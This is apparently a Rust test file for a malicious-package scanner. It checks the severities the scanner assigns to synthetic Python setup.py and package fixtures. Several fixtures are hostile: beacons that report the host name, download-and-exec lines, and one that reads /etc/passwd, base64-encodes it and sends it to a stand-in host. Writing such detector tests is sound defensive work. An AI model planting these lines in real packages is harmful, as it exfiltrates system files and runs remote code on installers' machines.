//! What honest builds do is seen, and refuses nothing by itself.

use bulkhead_core::Severity;

use super::recipe::Recipe;
use super::{found, look_local};

fn severity(id: &str, text: &str) -> Option<Severity> {
    let recipe = Recipe::parse(text);
    found(&look_local(&recipe.bytes(), &recipe.file_name), id).map(|finding| finding.severity)
}

#[test]
fn a_build_may_fetch_its_own_parts_and_a_beacon_may_not() {
    let build = |fetch: &str| {
        let text = format!(
            "archive webtool-1.0.tar.gz\n--- webtool-1.0/setup.py\nimport platform, requests, subprocess\nfrom urllib.request import urlopen, urlretrieve\n{fetch}\nsetup(name='webtool')\n"
        );
        severity("install-network", &text)
    };
    let written = "css = urlopen('https://cdn.test/style@4.0.2/index.css').read()\nopen('a.css', 'wb').write(css)";
    assert_eq!(build(written), Some(Severity::Medium));
    let own = "urlretrieve('https://wheels.webtool.example/1.0/webtool.whl', filename='w.whl')";
    assert_eq!(build(own), Some(Severity::Medium));
    let asked =
        "a = subprocess.check_output(['curl', '-s', 'https://api.github.com/repos/webtool/webtool/commits/main'])";
    assert_eq!(build(asked), Some(Severity::Medium));
    for bad in [
        // Nobody looks at the answer.
        "requests.get('https://webtool.example/installed')",
        // Somebody else's host, and what comes is not kept.
        "a = requests.get('https://count.test/webtool')",
        // It says who asks.
        "a = requests.get('https://webtool.example/?n=' + platform.node())\nopen('a', 'wb').write(a.content)",
        // No name, no TLS, or code.
        "a = urlopen('https://198.51.100.7/a.css').read()\nopen('a.css', 'wb').write(a)",
        "a = urlopen('http://cdn.test/a.css').read()\nopen('a.css', 'wb').write(a)",
        "a = urlopen('https://cdn.test/a.py').read()\nopen('a.py', 'wb').write(a)",
        // What comes is run.
        "a = urlopen('https://cdn.test/a.css').read()\nopen('a.css', 'wb').write(a)\nexec(a)",
    ] {
        assert_eq!(build(bad), Some(Severity::High), "{bad}");
    }
}

#[test]
fn an_old_bootstrap_of_the_build_tool_is_known_by_where_it_fetches() {
    let setup = |host: &str, file: &str| {
        let text = format!(
            "archive demo-1.0.tar.gz\n--- demo-1.0/setup.py\nimport {file}\n{file}.use()\n--- demo-1.0/{file}.py\nimport subprocess, sys, urllib.request\nBASE = 'https://{host}/packages/'\ndef use(version='1.0'):\n    open('setup.py', 'w').write(str(version))\n    subprocess.call([sys.executable, 'setup.py', 'install'])\n"
        );
        severity("dropped-program", &text)
    };
    assert_eq!(setup("packages.python.org", "ez_setup"), Some(Severity::Medium));
    assert_eq!(setup("packages.python.test", "ez_setup"), Some(Severity::High));
    assert_eq!(setup("packages.python.org", "other"), Some(Severity::High));
}

#[test]
fn weights_of_a_model_are_no_start_file() {
    let text = "archive demo-1.0-py3-none-any.whl\n--- demo/__init__.py\nimport pathlib, requests\ndef load(name):\n    path = pathlib.Path('~/.cache/demo/weights_' + name + '.pth')\n    path.write_bytes(requests.get('https://models.example/' + name).content)\n";
    assert!(severity("persistence", text).is_none_or(|severity| severity <= Severity::Medium));
}

#[test]
fn the_value_of_a_variable_that_nobody_sets_is_the_one_beside_it() {
    let text = "archive demo-1.0-py3-none-any.whl\n--- demo/__init__.py\nimport os, requests\nexec(requests.get(os.getenv('DEMO_URL', 'https://code.test/a')).text)\n";
    let recipe = Recipe::parse(text);
    let report = look_local(&recipe.bytes(), &recipe.file_name);
    let finding = found(&report, "downloaded-execution").expect("a finding");
    assert!(finding.title.contains("https://code.test/a"), "{}", finding.title);
}

#[test]
fn what_was_encoded_is_not_decoded_by_naming_its_letters() {
    let text = "archive demo-1.0-py3-none-any.whl\n--- demo/__init__.py\nimport base64, requests\nheld = open('/etc/passwd').read()\ndata = base64.b64encode(held.encode('ascii')).decode('ascii')\nrequests.get(f'https://catch.test/?rce={data}')\n";
    let recipe = Recipe::parse(text);
    let report = look_local(&recipe.bytes(), &recipe.file_name);
    let finding = found(&report, "credential-sent").expect("a finding");
    assert_eq!(finding.severity, Severity::Critical, "{:#?}", report.findings);
}
